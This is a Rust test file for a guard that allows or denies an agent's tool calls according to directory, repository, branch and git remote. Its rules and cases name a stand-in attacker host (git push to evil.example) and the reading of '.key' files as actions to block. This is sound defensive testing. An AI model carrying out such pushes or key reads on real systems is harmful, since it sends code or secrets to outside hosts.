//! `where`: a hook holds for what happens in a directory, a repository, on a branch, with a remote.

use crate::support::*;

const HOOKS: &str = r#"hooks:
  - { name: in-src, on: PreToolUse, if: Bash(make *), where: { directory: src }, deny: src }
  - { name: in-repo, on: PreToolUse, if: [Bash(touch *), Write], where: { repository: "**/app" }, deny: repo }
  - { name: with-up, on: PreToolUse, if: Bash(git push *), where: { remote: [up, "*evil.example*"] }, deny: up }
  - { name: releases, on: PreToolUse, if: Bash(git commit *), where: { branch: "release/*" }, deny: release }
  - { name: none, on: PreToolUse, if: Bash(git commit *), where: { branch: HEAD }, deny: none }
  - { name: both, on: PreToolUse, if: Bash(git tag *), where: { repository: "**/app", branch: main }, deny: both }
  - { name: reads, on: PreToolUse, if: Read(**/*.key), where: { branch: main }, deny: key }
  - { name: only-there, on: PreToolUse, if: [Bash(ls *), Bash(cat *)], where: { directory: [src, src/**] }, allow: there }
"#;

const CASES: &str = r#"setup: |
  mkdir -p src/deep
  git init -q -b main app
  git -C app remote add origin https://evil.example/x
  git -C app remote add up https://example.com/x
  git init -q -b release/1 rel
  git init -q loose
  git -C loose -c user.name=a -c user.email=b commit -q --allow-empty -m x
  git -C loose checkout -q --detach
cases:
  - { bash: make x, expect: allow }
  - { bash: make x, cwd: src, expect: deny }
  - { bash: make x, cwd: src/deep, expect: deny }
  - { bash: cd src && make x, expect: deny }
  - { bash: make x && cd src, expect: allow }
  - { bash: 'cd "$D" && make x', expect: doubt }
  - { bash: touch x, expect: allow }
  - { bash: touch x, cwd: app, expect: deny }
  - { bash: touch x, cwd: rel, expect: allow }
  - { event: { event: PreToolUse, tool: { name: Write, input: { file_path: app/new/x, content: y } } }, expect: deny }
  - { event: { event: PreToolUse, tool: { name: Write, input: { file_path: rel/x, content: y } } }, expect: allow }
  - { bash: git push up x, cwd: app, expect: deny }
  - { bash: git push, cwd: app, expect: deny, name: origin is an address that is named }
  - { bash: git push https://evil.example/y x, cwd: rel, expect: deny }
  - { bash: git push other x, cwd: app, expect: allow }
  - { bash: git fetch up, cwd: app, expect: allow }
  - { bash: git commit -m x, cwd: rel, expect: deny, outcomes: { releases: deny, none: absent } }
  - { bash: git commit -m x, cwd: app, expect: allow }
  - { bash: git commit -m x, cwd: loose, expect: deny, outcomes: { none: deny, releases: absent } }
  - { bash: git commit -m x, expect: allow, name: no repository }
  - { bash: git tag x, cwd: app, expect: deny }
  - { bash: git tag x, cwd: rel, expect: allow }
  - { bash: cat app/a.key, expect: deny, outcomes: { reads: deny } }
  - { bash: cat rel/a.key, expect: allow, outcomes: { reads: absent } }
  - { bash: ls, cwd: src, expect: allow, outcomes: { only-there: allow } }
  - { bash: ls, expect: allow, outcomes: { only-there: absent } }
  - { bash: ls && cd src/deep && cat x, expect: allow, outcomes: { only-there: absent }, name: all of it has to be there }
  - { bash: ls && cd deep && cat x, cwd: src, expect: allow, outcomes: { only-there: absent }, name: nothing allows a change of the directory }
"#;

#[test]
fn a_rule_holds_where_it_says() {
    if !is_there("git") {
        return;
    }
    let directory = hooks(&[("guard.yaml", HOOKS), ("guard.test.yaml", CASES)]);
    let ran = in_our_world(hookwire())
        .args(["test", "guard.test.yaml"])
        .current_dir(directory.path())
        .output()
        .unwrap();
    let said = String::from_utf8_lossy(&ran.stdout);
    assert!(ran.status.success(), "{said}");
}

/// What a call connects to is looked up anew where it depends on more than its text.
#[test]
fn a_remote_that_changes_is_another_host() {
    if !is_there("git") {
        return;
    }
    let rule = "hooks: [{ name: a, on: PreToolUse, if: Connect(evil.example), deny: no }]";
    let directory = hooks(&[("hooks/guard.yaml", rule), ("work/x", "")]);
    let work = directory.path().join("work");
    let git = |args: &[&str]| {
        let status = std::process::Command::new("git")
            .args(args)
            .current_dir(&work)
            .status();
        assert!(status.unwrap().success());
    };
    git(&["init", "-q"]);
    git(&["remote", "add", "origin", "https://good.example/x"]);
    let mut command = in_our_world(hookwire());
    command
        .args(["serve", "--isolated", "--hooks"])
        .arg(directory.path().join("hooks"));
    let mut host = TestHost::start(command.arg("--root").arg(&work));
    for _ in 0..3 {
        assert_eq!(brief(&host.bash("git push")), "allow");
    }
    git(&["remote", "set-url", "origin", "https://evil.example/x"]);
    assert!(brief(&host.bash("git push")).starts_with("deny by a"));
    host.close();
}
